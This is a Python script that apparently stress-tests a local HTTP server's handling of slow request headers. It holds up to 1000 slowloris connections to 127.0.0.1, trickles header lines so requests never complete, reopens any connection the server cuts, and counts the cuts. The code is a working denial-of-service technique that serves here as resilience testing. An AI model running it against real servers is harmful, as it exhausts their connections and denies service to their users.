#!/usr/bin/env python3
"""Holds CONNS slowloris connections to 127.0.0.1:PORT for SECONDS: each sends a request line and
then one header byte-line every few seconds, never finishing its head; a connection the server
closes is opened again at once. Prints how many were open at the end and how many the server cut.

Usage: slowloris.py PORT [CONNS=1000] [SECONDS=20]
"""
import socket
import sys
import time

port = int(sys.argv[1])
conns = int(sys.argv[2]) if len(sys.argv) > 2 else 1000
seconds = float(sys.argv[3]) if len(sys.argv) > 3 else 20.0


def opened():
    s = socket.create_connection(("127.0.0.1", port))
    s.setblocking(False)
    s.send(b"GET /healthz HTTP/1.1\r\nHost: slow\r\n")
    return s


socks = [opened() for _ in range(conns)]
cut = 0
end = time.monotonic() + seconds
n = 0
while time.monotonic() < end:
    n += 1
    for i, s in enumerate(socks):
        try:
            s.send(f"X-{n}: 1\r\n".encode())
            s.recv(4096)  # anything (a 408) or EOF: the server cut it
        except BlockingIOError:
            continue  # still waiting for the rest of our head
        except OSError:
            pass
        cut += 1
        s.close()
        socks[i] = opened()
    time.sleep(2)
print(f"slowloris: {len(socks)} connections held for {seconds:.0f} s, {cut} cut by the server and reopened")
